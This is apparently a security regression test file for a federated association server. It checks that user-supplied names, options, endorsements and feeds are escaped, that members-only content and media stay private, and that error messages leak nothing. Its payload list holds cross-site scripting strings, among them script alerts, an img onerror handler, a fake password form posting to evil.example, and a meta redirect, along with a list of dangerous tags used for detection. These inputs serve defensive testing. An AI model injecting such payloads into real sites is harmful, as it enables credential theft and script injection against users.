"""The outside review's findings 1, 2, 7, 9, 13 and 14 (issue 12), catalogue cases 48-61 (ours).

Each test attacks a real node on SQLite and PostgreSQL with the class of request the review
made, in several variants, and reads every channel the class reaches. The scene is the one of
:mod:`tests.security.test_sec_g_visibility`: the association "collectif" with members-only
content (marked ``SECRET``), its admin adele, its remote member alice, a follower bob, a local
outsider olga and a remote stranger mallory.
"""

from __future__ import annotations

import importlib.util
import json
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from sqlalchemy import func, select, update
from sqlalchemy.ext.asyncio import create_async_engine

from federation.fetch import FetchTemporaryFailure
from federation.transport import ConnectionFailed, FetchTimeout, InvalidUrl
from federation.types import Iri
from server.db import migrations
from server.db.models import Activity, Actor, Follow, RemoteObject, Report
from server.http.problems import problem_for
from server.services.content import endorsements
from server.services.inbox import handlers as inbox_handlers
from tests.security.test_sec_g_visibility import SECRET, Scene, scene  # noqa: F401 (fixture)
from tests.support.fake_peers import actor_document
from tests.support.nodes import Node
from tests.support.signed_inbox import AS_PUBLIC, fixed_key, settle
from tests.support.visibility import AP, HTML, Reader, read
from tests.support.world import SHARED, activity, create, note, object_row

# ---------------------------------------------------------------------------------------------
# 48. Plain text is text everywhere
# ---------------------------------------------------------------------------------------------

PAYLOADS = (
    '&lt;form action="https://evil.example/steal"&gt;&lt;input name="pw"&gt;&lt;/form&gt;',
    "<script>alert(48)</script>",
    '"><img src=x onerror="alert(48)">',
    '&lt;meta http-equiv="refresh" content="0;url=https://evil.example/"&gt;',
)
"""Names, titles and options the review tried: escaped, raw, attribute-breaking, entity-encoded."""
LIVE_TAGS = frozenset({"form", "input", "script", "img", "iframe", "object", "embed", "base", "svg", "style"})


class _Markup(HTMLParser):
    """The elements a browser would build from some HTML, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {name.lower() for name, _ in attrs}
        if tag in LIVE_TAGS or "http-equiv" in names or any(n.startswith("on") for n in names):
            self.live.append(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def live_markup(markup: str) -> list[str]:
    """The dangerous elements (or attributes) that ``markup`` makes live."""
    parser = _Markup()
    parser.feed(markup)
    parser.close()
    return parser.live


def shown_text(markup: str) -> str:
    parser = _Markup()
    parser.feed(markup)
    parser.close()
    return "".join(parser.text)


def _feed_html(node: Node, fmt: str, body: bytes) -> list[str]:
    """Every HTML field of a feed's entries (Atom content, RSS description, JSON content_html)."""
    if fmt == "json":
        return [item.get("content_html", "") for item in json.loads(body)["items"]]
    root = ET.fromstring(body)
    if fmt == "atom":
        return [e.text or "" for e in root.iter("{http://www.w3.org/2005/Atom}content")]
    return [e.text or "" for e in root.iter("description")]


async def test_sec_48_plain_text_fields_stay_text_in_every_output(scene: Scene) -> None:
    """A proposal's name and options, a post's name and summary and an alert's area, through the
    API, C2S and a member's federated Question: no output builds markup from them."""
    node, world = scene.node, scene.world
    auth = {"Authorization": f"Bearer {scene.admin}"}
    made: list[str] = []
    for i, payload in enumerate(PAYLOADS):
        response = await node.client.post(
            "/api/associations/collectif/proposals",
            json={"name": f"{payload} {i}", "oneOf": ["Oui", f"{payload} option"]},
            headers=auth,
        )
        assert response.status == 201, await response.text()
        made.append((await response.json())["id"])
        c2s = await node.post_outbox(
            "/groups/collectif",
            scene.admin,
            {
                "to": [AS_PUBLIC],
                "type": "Question",
                "name": f"{payload} c2s {i}",
                "oneOf": [{"name": "Non"}, {"name": payload}],
            },
        )
        made.append(c2s["object"])
        alert = await node.client.post(
            "/api/associations/collectif/alerts",
            json={
                "name": f"{payload} alerte",
                "content": "<p>Coupure</p>",
                "severity": "warning",
                "category": "other",
                "area": payload,
            },
            headers=auth,
        )
        assert alert.status == 201, await alert.text()
        made.append((await alert.json())["id"])
    # A member's Question from a peer, posted into the association (which relays it).
    question = note(
        world.alice,
        to=[AS_PUBLIC],
        cc=[world.group],
        audience=world.group,
        type="Question",
        name=PAYLOADS[0],
        content=f"<p>{PAYLOADS[1]}</p>",
        oneOf=[{"type": "Note", "name": p} for p in PAYLOADS[2:]],
        endTime="2099-01-01T00:00:00Z",
    )
    assert (await world.send(SHARED, create(world.alice, question), world.alice)).status == 202
    await settle(node)
    assert await object_row(node, question["id"]) is not None

    reader = Reader("anonymous")
    for iri in made:
        page = await read(node, reader, iri, accept=HTML)
        assert page.status == 200 and live_markup(page.text) == [], (iri, page.text)
        wire = json.loads((await read(node, reader, iri, accept=AP)).body)
        assert live_markup(wire["content"]) == [], wire["content"]
        api = await node.client.get(f"/api/objects?iri={iri}")
        assert live_markup((await api.json())["content"]) == []
    # The name shows as text, character for character (escaped, not dropped), after an edit too.
    first = await read(node, reader, made[0], accept=HTML)
    assert '<form action="https://evil.example/steal">' in shown_text(first.text)
    edited = await node.client.patch(f"/api/objects?iri={made[0]}", json={"name": PAYLOADS[3]}, headers=auth)
    assert edited.status == 200, await edited.text()
    content = (await (await node.client.get(f"/api/objects?iri={made[0]}")).json())["content"]
    assert live_markup(content) == [] and "<meta http-equiv" in shown_text(content)
    for fmt in ("atom", "rss", "json"):
        feed = await read(node, reader, node.uris.feed(Iri(world.group), fmt, None), accept="*/*")
        assert feed.status == 200
        for entry in _feed_html(node, fmt, feed.body):
            assert live_markup(entry) == [], (fmt, entry)
    # The federated form: every activity the node publishes (Create, Update, the relay).
    async with node.sessions() as session:
        documents = (
            await session.scalars(
                select(Activity.document)
                .join(Actor, Actor.id == Activity.actor_id)
                .where(Actor.local.is_(True))
            )
        ).all()
    for document in documents:
        inner = document.get("object")
        while isinstance(inner, dict):
            for field in ("content", "summary"):
                if isinstance(inner.get(field), str):
                    assert live_markup(inner[field]) == [], (document["id"], inner[field])
            inner = inner.get("object")


# ---------------------------------------------------------------------------------------------
# 49. Threads are ours: inReplyTo as we hold it, and the replies policy on every reply
# ---------------------------------------------------------------------------------------------


async def _members_only_replies(node: Node, group: str) -> None:
    async with node.sessions.begin() as session:
        await session.execute(update(Actor).where(Actor.iri == group).values(replies_policy="members"))


async def _thread_iris(node: Node, reader: Reader, object_iri: str) -> str:
    """Both collections of ``object_iri`` as one text (replies, and its thread embedded)."""
    seen = [await read(node, reader, f"{object_iri}/{name}") for name in ("replies", "context")]
    return "\n".join(s.text for s in seen)


async def _a_peers_context_claim_never_files_into_our_threads(scene: Scene) -> None:
    """A stranger's note claiming ``context: <our members-only thread>``, and a member's reply to
    the public note claiming the members-only thread: each is filed by its inReplyTo chain."""
    node, world = scene.node, scene.world
    claims = f"{scene.secret}/context"
    stray = note(world.mallory, to=[AS_PUBLIC], cc=[world.group], context=claims)
    replied = note(world.alice, to=[AS_PUBLIC], inReplyTo=scene.public, context=claims)
    for doc, who in ((stray, world.mallory), (replied, world.alice)):
        assert (await world.send(SHARED, create(who, doc), who)).status == 202
    await settle(node)
    rows = [await object_row(node, doc["id"]) for doc in (stray, replied)]
    assert [r.context_iri if r else None for r in rows] == [None, f"{scene.public}/context"]
    member = Reader("admin", token=scene.admin)
    listed = await _thread_iris(node, member, scene.secret)
    assert stray["id"] not in listed and replied["id"] not in listed
    assert replied["id"] in await _thread_iris(node, member, scene.public)


async def _the_replies_policy_holds_whatever_a_reply_addresses(scene: Scene) -> None:
    """Replies from members only: a stranger's reply that does not name the association (from a
    peer, and into a stranger's earlier reply), and a local outsider's reply that names another
    association as audience, are refused; a member's reply is taken."""
    node, world = scene.node, scene.world
    await _members_only_replies(node, world.group)
    quiet = note(world.mallory, to=[AS_PUBLIC], inReplyTo=scene.public)
    member_reply = note(world.alice, to=[AS_PUBLIC], cc=[world.group], inReplyTo=scene.public)
    for doc, who in ((quiet, world.mallory), (member_reply, world.alice)):
        assert (await world.send(SHARED, create(who, doc), who)).status == 202
    await settle(node)
    assert await object_row(node, quiet["id"]) is None
    assert await object_row(node, member_reply["id"]) is not None
    deeper = note(world.mallory, to=[AS_PUBLIC], inReplyTo=member_reply["id"])
    assert (await world.send(SHARED, create(world.mallory, deeper), world.mallory)).status == 202
    await settle(node)
    assert await object_row(node, deeper["id"]) is None
    before = await world.counts()
    for body in (
        {"type": "Note", "content": "<p>moi</p>", "inReplyTo": scene.public, "audience": _voisins(node)},
        {"to": [AS_PUBLIC], "type": "Note", "content": "<p>moi aussi</p>", "inReplyTo": member_reply["id"]},
    ):
        response = await node.client.post(
            "/users/olga/outbox", json=body, headers={"Authorization": f"Bearer {scene.olga}"}
        )
        assert response.status == 403, await response.text()
    direct = {"inReplyTo": scene.public, "content": "x", "visibility": "direct", "to": [world.alice.iri]}
    response = await node.client.post(
        "/api/users/olga/replies", json=direct, headers={"Authorization": f"Bearer {scene.olga}"}
    )
    assert response.status == 403, await response.text()
    assert await world.counts() == before
    listed = await _thread_iris(node, Reader("admin", token=scene.admin), scene.public)
    assert member_reply["id"] in listed
    assert quiet["id"] not in listed and deeper["id"] not in listed


def _voisins(node: Node) -> str:
    return node.uris.iri("/groups/voisins")


def _migration_0008() -> Any:
    path = next((Path(migrations.__file__).parent / "versions").glob("0008_*.py"))
    spec = importlib.util.spec_from_file_location("migration_0008", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


async def _what_was_stored_before_the_fix_is_repaired_by_migration_0008(
    scene: Scene, database_url: str
) -> None:
    """A proposal whose content is its unescaped name (and its published Create), and a peer's note
    filed in our members-only thread by its own claim, as the old code stored them: repaired."""
    node, world = scene.node, scene.world
    made = await node.post_outbox(
        "/groups/collectif",
        scene.admin,
        {"to": [AS_PUBLIC], "type": "Question", "name": PAYLOADS[0], "oneOf": ["a", "b"]},
    )
    stray = note(world.mallory, to=[AS_PUBLIC], cc=[world.group], context=f"{scene.secret}/context")
    assert (await world.send(SHARED, create(world.mallory, stray), world.mallory)).status == 202
    await settle(node)
    async with node.sessions.begin() as session:  # the state the old code left
        row = await session.scalar(select(RemoteObject).where(RemoteObject.iri == made["object"]))
        assert row is not None
        old_content = f"<p>{row.document['name']}</p>"
        row.document = {**row.document, "content": old_content}
        published = await session.scalar(select(Activity).where(Activity.iri == made["id"]))
        assert published is not None
        inner = {**published.document["object"], "content": old_content}
        published.document = {**published.document, "object": inner}
        claimed = update(RemoteObject).where(RemoteObject.iri == stray["id"])
        await session.execute(claimed.values(context_iri=f"{scene.secret}/context"))
    assert live_markup(old_content) != []
    engine = create_async_engine(database_url)
    try:
        async with engine.begin() as conn:
            await conn.run_sync(_migration_0008().repair)
    finally:
        await engine.dispose()
    async with node.sessions() as session:
        row = await session.scalar(select(RemoteObject).where(RemoteObject.iri == made["object"]))
        published = await session.scalar(select(Activity).where(Activity.iri == made["id"]))
        refiled = await session.scalar(
            select(RemoteObject.context_iri).where(RemoteObject.iri == stray["id"])
        )
    assert row is not None and published is not None
    for content in (row.document["content"], published.document["object"]["content"]):
        assert live_markup(content) == [] and shown_text(content) == row.document["name"]
    assert refiled is None


async def test_sec_49_threads_come_from_in_reply_to_and_the_replies_policy_binds_every_reply(
    scene: Scene, database_url: str
) -> None:
    """Context claims, replies that do not name the association, and the repair of migration 0008
    (which also escapes the proposals' contents of case 48) on what the old code stored."""
    await _a_peers_context_claim_never_files_into_our_threads(scene)
    await _the_replies_policy_holds_whatever_a_reply_addresses(scene)
    await _what_was_stored_before_the_fix_is_repaired_by_migration_0008(scene, database_url)


# ---------------------------------------------------------------------------------------------
# 54. No existence oracle on write paths
# ---------------------------------------------------------------------------------------------


async def _answer(node: Node, token: str, method: str, path: str, body: Any = None) -> tuple[int, Any]:
    response = await node.client.request(
        method, path, json=body, headers={"Authorization": f"Bearer {token}"}
    )
    return response.status, await response.json(content_type=None)


async def test_sec_54_writes_to_unreadable_objects_answer_like_missing_ones(scene: Scene) -> None:
    """A local outsider's Update, Delete, reply and votes (C2S and API) naming a members-only
    object get exactly the answer of the same request naming a missing one."""
    node = scene.node
    proposal = await node.post_outbox(
        "/groups/collectif",
        scene.admin,
        {"type": "Question", "name": f"{SECRET} vote", "oneOf": ["Oui", "Non"], "visibility": "members"},
    )
    missing_note = node.uris.object("0" * 32)
    missing_question = node.uris.object("1" * 32)

    def requests(target: str, question: str) -> list[tuple[str, str, Any]]:
        outbox = "/users/olga/outbox"
        return [
            ("POST", outbox, {"type": "Update", "object": {"id": target, "content": "<p>x</p>"}}),
            ("POST", outbox, {"type": "Delete", "object": target}),
            ("POST", outbox, {"type": "Announce", "object": target}),
            ("POST", outbox, {"to": [AS_PUBLIC], "type": "Note", "content": "<p>x</p>", "inReplyTo": target}),
            ("POST", outbox, {"type": "Note", "content": "x", "inReplyTo": target, "visibility": "members"}),
            ("POST", outbox, {"type": "Note", "name": "Oui", "inReplyTo": question}),
            ("POST", outbox, {"type": "Note", "name": "Peut-être", "inReplyTo": question}),
            ("POST", "/api/votes", {"question": question, "choice": "Oui"}),
            ("POST", "/api/votes", {"question": question, "choice": "Peut-être"}),
            ("PATCH", f"/api/objects?iri={target}", {"content": "<p>x</p>"}),
            ("DELETE", f"/api/objects?iri={target}", None),
        ]

    await settle(node)
    before = await scene.world.counts()
    hidden = requests(scene.secret, proposal["object"])
    missing = requests(missing_note, missing_question)
    for (method, path, body), (_, missing_path, missing_body) in zip(hidden, missing, strict=True):
        seen = await _answer(node, scene.olga, method, path, body)
        absent = await _answer(node, scene.olga, method, missing_path, missing_body)
        assert seen == absent, (method, path, body)
        assert 400 <= seen[0] < 500 and SECRET not in json.dumps(seen[1])
    assert await scene.world.counts() == before


# ---------------------------------------------------------------------------------------------
# 56. Following lists: the count for everyone, the items for the owner
# ---------------------------------------------------------------------------------------------


async def _following_lists_show_the_count_only_to_others(scene: Scene) -> None:
    node, world = scene.node, scene.world
    async with node.sessions.begin() as session:
        ids = dict((await session.execute(select(Actor.iri, Actor.id))).all())
        adele = node.uris.iri("/users/adele")
        session.add(
            Follow(
                follower_id=ids[adele],
                followed_id=ids[world.bob.iri],
                follow_iri=f"{adele}#follows/1",
                state="accepted",
                created_at=node.fed.node.clock(),
            )
        )
    path = "/users/adele/following"
    for reader in (*scene.outsiders(), Reader("member of the same association", remote=world.alice)):
        for where in (path, f"{path}?page=true"):
            seen = await read(node, reader, where)
            assert seen.status == 200, (reader.name, seen.text)
            doc = json.loads(seen.body)
            assert doc.get("totalItems") == 1 and world.bob.iri not in seen.text, (reader.name, where)
            assert "first" not in doc and "orderedItems" not in doc
    own = await read(node, Reader("adele", token=await node.token("adele")), f"{path}?page=true")
    assert world.bob.iri in json.loads(own.body)["orderedItems"]
    assert "no-store" in (own.header("Cache-Control") or "")


async def test_sec_56_60_follow_lists_and_attachments_follow_the_read_filter(scene: Scene) -> None:
    await _following_lists_show_the_count_only_to_others(scene)
    await _media_of_members_only_content_is_served_to_its_readers_only(scene)


# ---------------------------------------------------------------------------------------------
# 60. Members download the attachments of members-only content
# ---------------------------------------------------------------------------------------------


async def _media_of_members_only_content_is_served_to_its_readers_only(scene: Scene) -> None:
    node = scene.node
    auth = {"Authorization": f"Bearer {scene.admin}"}
    uploaded = []
    for _ in range(2):
        response = await node.client.post(
            "/api/media",
            data=b"%PDF-1.4\n" + SECRET.encode() + b"\n%%EOF\n",
            params={"as": "collectif"},
            headers={**auth, "Content-Type": "application/octet-stream"},
        )
        assert response.status == 201, await response.text()
        uploaded.append(await response.json())
    for level, media in zip(("members", "public"), uploaded, strict=True):
        await node.post_outbox(
            "/groups/collectif",
            scene.admin,
            {"type": "Note", "content": "<p>pièce</p>", "visibility": level, "attachment": [media["key"]]},
        )
    hidden, public = (m["url"].removeprefix(node.uris.origin) for m in uploaded)
    member = await read(node, Reader("admin", token=scene.admin), hidden, accept="*/*")
    assert member.status == 200 and SECRET.encode() in member.body
    assert "no-store" in (member.header("Cache-Control") or "")
    gone = "/media/" + "0" * len(hidden.rsplit("/", 1)[1])
    for reader in scene.outsiders():
        seen = await read(node, reader, hidden, accept="*/*")
        absent = await read(node, reader, gone, accept="*/*")
        assert seen.status == 404 and seen.shape() == absent.shape(), reader.name
    anyone = await read(node, Reader("anonymous"), public, accept="*/*")
    assert anyone.status == 200 and "immutable" in (anyone.header("Cache-Control") or "")


# ---------------------------------------------------------------------------------------------
# 61. Endorsement statements, a Join to an unreachable host, Flags
# ---------------------------------------------------------------------------------------------


async def _a_join_to_an_unreachable_host_answers_in_our_own_words(scene: Scene) -> None:
    node, world = scene.node, scene.world
    token = await node.token("olga")
    unreachable = "http://peer.example:1/groups/voisins"  # nothing listens on port 1
    before = await world.counts()
    response = await node.client.post(
        "/users/olga/outbox",
        json={"type": "Join", "object": unreachable},
        headers={"Authorization": f"Bearer {token}"},
    )
    problem = await response.json(content_type=None)
    assert response.status in (502, 504), problem
    assert problem["detail"].startswith("the remote server "), problem
    assert not any(word in json.dumps(problem) for word in ("Error", "aiohttp", "127.0.0.1", "Connect"))
    assert await world.counts() == before


async def _remote_endorsements_are_republished_only_as_sanitised(scene: Scene, monkeypatch: Any) -> None:
    """A peer association's endorsement whose statement our sanitiser would change is never
    stored, so never served in the proposal's public collection; a clean one is kept verbatim."""
    node, world = scene.node, scene.world
    proposal = await node.post_outbox(
        "/groups/collectif",
        scene.admin,
        {"to": [AS_PUBLIC], "type": "Question", "name": "Jardin", "oneOf": ["Oui", "Non"]},
    )
    endorser_iri = world.peers.iri("evil.example", "/groups/voisins")
    key = fixed_key("rsa-mallory.pem", f"{endorser_iri}#main-key", endorser_iri)
    world.peers.serve_json(
        endorser_iri, actor_document(endorser_iri, username="voisins", keys=(key.public,), actor_type="Group")
    )
    endorser = await node.fed.actor(endorser_iri)

    async def verified(*_: Any) -> None:
        return None  # the proof is not what this case is about

    monkeypatch.setattr(endorsements, "verify", verified)
    base = {
        "@context": "https://www.w3.org/ns/activitystreams",
        "type": "Endorsement",
        "attributedTo": endorser_iri,
        "object": proposal["object"],
        "to": [AS_PUBLIC],
    }
    dirty = [
        {"content": '<p>Oui</p><script>alert(61)</script><img src=x onerror="alert(61)">'},
        {"content": "<p>Oui</p>", "summary": "<form action='https://evil.example/'><input></form>"},
        {"contentMap": {"fr": "<p onclick='alert(61)'>Oui</p>"}},
        {"content": "<p>Oui</p>", "name": "<b>Voisins</b>"},
    ]
    for i, extra in enumerate(dirty):
        document = {**base, "id": f"{endorser_iri}/endorsements/{i}", **extra}
        assert await endorsements.receive(node.fed, endorser, document) is False, extra
    clean = {**base, "id": f"{endorser_iri}/endorsements/ok", "content": "<p>Nous soutenons.</p>"}
    assert await endorsements.receive(node.fed, endorser, clean) is True
    listed = await read(node, Reader("anonymous"), f"{proposal['object']}/endorsements")
    assert listed.status == 200 and clean["id"] in listed.text
    assert live_markup(listed.text) == [] and "alert(61)" not in listed.text and "<b>" not in listed.text


async def _flags_are_bounded_in_size_and_number_per_actor(scene: Scene) -> None:
    node, world = scene.node, scene.world
    limit = inbox_handlers.REPORTS_PER_ACTOR
    for i in range(limit + 3):
        flag = activity(
            "Flag",
            world.mallory,
            [scene.public] * 100,
            content=f"<p>signalement {i}</p>" + "x" * 200_000,
        )
        assert (await world.send(SHARED, flag, world.mallory)).status == 202
    await settle(node)
    async with node.sessions() as session:
        reports = (await session.scalars(select(Report))).all()
    assert len(reports) == limit
    for report in reports:
        assert report.target_iris == [scene.public]
        assert len(report.content) <= 5_000 and "<p>" not in report.content
    # another reporter is not held back by mallory's reports
    other = activity("Flag", world.bob, [scene.public], content="<p>spam</p>")
    assert (await world.send(SHARED, other, world.bob)).status == 202
    await settle(node)
    async with node.sessions() as session:
        assert await session.scalar(select(func.count(Report.id))) == limit + 1


async def test_sec_61_what_we_keep_or_repeat_from_others_is_clean_and_bounded(
    scene: Scene, monkeypatch: Any
) -> None:
    await _a_join_to_an_unreachable_host_answers_in_our_own_words(scene)
    await _remote_endorsements_are_republished_only_as_sanitised(scene, monkeypatch)
    await _flags_are_bounded_in_size_and_number_per_actor(scene)


def test_sec_61_fetch_failures_answer_in_our_words_whatever_wraps_them() -> None:
    """Every outbound failure a client's request can meet: 504 for a timeout (also once wrapped as
    a temporary failure), else 502; the detail is ours, never the failure's own text."""
    leaky = "ClientConnectorError: Cannot connect to host 10.0.0.7:443 ssl:default [Connection refused]"
    timeout = FetchTimeout(leaky)
    try:
        raise FetchTemporaryFailure(leaky) from timeout
    except FetchTemporaryFailure as wrapped:
        cases = [(timeout, 504), (wrapped, 504), (ConnectionFailed(leaky), 502), (InvalidUrl(leaky), 502)]
    for error, status in cases:
        response = problem_for(error)
        assert response.status == status, error
        assert isinstance(response.body, bytes)
        body = json.loads(response.body)
        assert body["detail"].startswith("the remote server ") and "10.0.0.7" not in response.body.decode()
        assert body["code"] == error.code
